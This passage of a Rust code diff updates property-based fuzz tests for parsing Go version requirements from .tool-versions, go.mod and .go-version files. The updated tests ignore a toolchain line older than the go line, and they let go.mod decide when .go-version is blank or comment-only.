-            match parse_go_mod(&text, &origin) {
+            match parse_tool_versions(&text, &origin) {
                 Ok(Some(requirement)) => {
                     prop_assert!(requirement_round_trips(&requirement), "{requirement:?}");
                 }
                 Ok(None) => {}
+                Err(e) => check_error(&e, &text, &origin)?,
+            }
+            match parse_go_mod(&text, &origin) {
+                Ok(module) => {
+                    if let Some(requirement) = module.requirement() {
+                        prop_assert!(requirement_round_trips(&requirement), "{requirement:?}");
+                    }
+                }
                 Err(e) => check_error(&e, &text, &origin)?,
             }
         }
@@ -880,12 +1209,19 @@ mod fuzz {
             }
             let end = if crlf { "\r\n" } else { "\n" };
             let text: String = lines.iter().map(|l| format!("{l}{end}")).collect();
-            let expected = match (&toolchain, &go) {
-                (Some(((_, v), _, _)), _) => Some(Requirement::Request(VersionRequest::Exact(*v))),
-                (None, Some(((_, v), _, _))) => Some(Requirement::AtLeast(*v)),
+            let minimum = go.as_ref().map(|((text, _), _, _)| Minimum::parse(text).unwrap());
+            // A toolchain line older than the go line is ignored, as Go ignores it.
+            let toolchain = toolchain
+                .as_ref()
+                .map(|((_, v), _, _)| *v)
+                .filter(|v| minimum.is_none_or(|m| m.admits(v)));
+            let expected = match (toolchain, minimum) {
+                (Some(v), _) => Some(Requirement::Request(VersionRequest::Exact(v))),
+                (None, Some(min)) => Some(Requirement::AtLeast(min)),
                 (None, None) => None,
             };
-            prop_assert_eq!(parse_go_mod(&text, Path::new("go.mod")), Ok(expected), "{}", text);
+            let parsed = parse_go_mod(&text, Path::new("go.mod")).map(|m| m.requirement());
+            prop_assert_eq!(parsed, Ok(expected), "{}", text);
         }
 
         #[test]
@@ -909,10 +1245,26 @@ mod fuzz {
             match select(&dir, &inputs) {
                 Ok(Some(selection)) => {
                     prop_assert!(requirement_round_trips(&selection.requirement), "{selection:?}");
-                    prop_assert_eq!(selection.source, Source::File(tree.0.join(GO_VERSION_FILE)));
+                    // The .go-version decides, unless it is skipped (blank or
+                    // comment-only): then the go.mod below it does.
+                    let skipped = matches!(
+                        parse_go_version_file(&content, Path::new(GO_VERSION_FILE)),
+                        Ok(None)
+                    );
+                    let decider = if skipped { dir.join("go.mod") } else { tree.0.join(GO_VERSION_FILE) };
+                    prop_assert_eq!(selection.source, Source::File(decider));
                 }
-                Ok(None) => prop_assert!(false, "a .go-version exists, yet nothing was selected"),
-                Err(e) => prop_assert!(e.origin.ends_with(GO_VERSION_FILE), "{e}"),
+                // Only an empty or comment-only file is skipped.
+                Ok(None) => prop_assert_eq!(
+                    parse_go_version_file(&content, Path::new(GO_VERSION_FILE)),
+                    Ok(None),
+                    "a .go-version with a version exists, yet nothing was selected"
+                ),
+                // A skipped (empty) .go-version leaves go.mod to decide.
+                Err(e) => prop_assert!(
+                    e.origin.ends_with(GO_VERSION_FILE) || e.origin.ends_with("go.mod"),
+                    "{e}"
+                ),
             }
         }
     }
